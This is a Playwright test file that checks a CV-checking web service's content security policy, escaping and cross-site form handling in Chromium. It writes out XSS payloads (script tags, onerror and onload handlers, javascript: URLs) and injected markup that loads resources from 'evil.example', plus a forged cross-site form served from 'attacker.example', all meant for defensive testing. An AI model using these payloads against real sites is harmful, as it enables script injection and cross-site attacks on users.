import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fixture, type Service, startService } from '../worker/service.ts';
import { chromiumPath, launch } from './chromium.ts';

const PAGES = [
  '/',
  '/?role=data-analyst',
  '/compare',
  '/privacy',
  '/rules',
  '/rules/bullets/no-metrics',
  '/nowhere',
  '/assets/icon.svg',
];
const CV = {
  name: '<img src=x onerror=alert(1)>.pdf',
  mimeType: 'application/pdf',
  buffer: fixture('arjun-mehta-backend-weak/resume-final-v3.pdf'),
};
const HOSTILE_CV = `<script>window.ran = true</script>
"><img src=x onerror="window.ran = true">
hana@example.test <a href="javascript:window.ran=true">me</a>

Experience
Developer, <svg onload="window.ran=true">, 2019 – 2024
- Built 3 services </mark></p><script>window.ran = true</script>
- <style>body { display: none }</style> <iframe src="javascript:alert(1)"></iframe>
`;

/** Counts what the policy had to stop, from before the first script of a page. */
const WATCH = `
  window.stopped = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.stopped.push(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample);
  });
`;

describe.skipIf(chromiumPath === null)('the content security policy in Chromium', () => {
  let service: Service;
  let browser: Browser;
  let page: Page;
  let outside: string[] = [];
  beforeAll(async () => {
    [service, browser] = await Promise.all([startService(), launch()]);
    const context = await browser.newContext();
    await context.addInitScript(WATCH);
    page = await context.newPage();
    page.on('request', (request) => {
      if (new URL(request.url()).host !== service.url.host) outside.push(request.url());
    });
    page.on('dialog', (dialog) => {
      outside.push(`dialog: ${dialog.message()}`);
      return dialog.dismiss();
    });
  });
  afterAll(async () => {
    await browser.close();
    await service.stop();
  });

  const stopped = () => page.evaluate('window.stopped') as Promise<string[]>;
  const open = async (path: string) => {
    outside = [];
    return page.goto(new URL(path, service.url).href);
  };
  const expectNothingStopped = async () => {
    expect(await stopped()).toEqual([]);
    expect(outside).toEqual([]);
  };

  test.each(PAGES)('%s needs nothing that it forbids', async (path) => {
    await open(path);
    await expectNothingStopped();
  });

  test('nor do a report, its print, a comparison and a form with a fault', async () => {
    await open('/');
    await page.getByRole('button', { name: 'Check my CV' }).click();
    await page.waitForLoadState();
    await expectNothingStopped();
    await page.getByLabel('Your CV', { exact: true }).setInputFiles(CV);
    await page.getByLabel('The role you applied for').selectOption('backend-developer');
    await page.getByRole('button', { name: 'Check my CV' }).click();
    await page.waitForLoadState();
    expect(await page.locator('.file-name').textContent()).toBe(CV.name);
    await page.evaluate('dispatchEvent(new Event("beforeprint"))');
    await expectNothingStopped();
    await page.getByLabel('Your changed CV').setInputFiles(CV);
    await page.getByRole('button', { name: 'Check this version' }).click();
    await page.waitForLoadState();
    await expectNothingStopped();
  });

  test('a CV made of markup is words on the page: nothing of it even tries to run', async () => {
    await open('/');
    await page.locator('summary').first().click();
    await page.locator('textarea[name="text"]').fill(HOSTILE_CV);
    await page.getByLabel('The role you applied for').selectOption('backend-developer');
    await page.getByRole('button', { name: 'Check my CV' }).click();
    await page.waitForLoadState();
    expect(await page.locator('.verdict h1').count()).toBe(1);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.locator('main :is(script, img, iframe, style, a[href^="javascript:"])').count()).toBe(
      0,
    );
    await expectNothingStopped();
  });

  test('were escaping to fail, nothing of what got in would run or load', async () => {
    const markup = `<script>window.ran = true</script><script src="https://evil.example/s.js"></script>
      <img src="https://evil.example/i.png" onerror="window.ran = true"><svg onload="window.ran = true"></svg>
      <style>body { display: none }</style><p style="position: fixed">over all</p>
      <iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>
      <base href="https://evil.example/"><form action="https://evil.example/"><button id="away">go</button></form>`;
    const address = new URL('/', service.url).href;
    await page.route(address, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('</main>', `${markup}</main>`) });
    });
    await open('/');
    await page.evaluate("document.getElementById('away').click()");
    const directives = ['base-uri', 'form-action', 'frame-src', 'img-src', 'object-src'];
    const inline = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
    await expect
      .poll(async () => [...new Set((await stopped()).map((entry) => entry.split(' ')[0]))].sort())
      .toEqual([...directives, ...inline].sort());
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.locator('body').isVisible()).toBe(true);
    expect(page.url()).toBe(address);
    await page.unroute(address);
  });

  test('a form that another site holds is answered with a page of ours, in a frame of nobody', async () => {
    const attack = await browser.newPage();
    const body = `<iframe name="inside"></iframe><form method="post" target="inside" enctype="multipart/form-data" action="${service.url.href}">
      <input name="text" value="Planted words"><input name="role" value="backend-developer"><button>go</button></form>`;
    await attack.route('http://attacker.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body }),
    );
    await attack.goto('http://attacker.example/');
    await attack.getByRole('button').click();
    await attack.waitForTimeout(500);
    const frame = attack.frames().find((one) => one !== attack.mainFrame());
    expect(await frame?.locator('.verdict').count()).toBe(0);
    expect(await attack.context().cookies()).toEqual([]);
    await attack.close();
  });
});
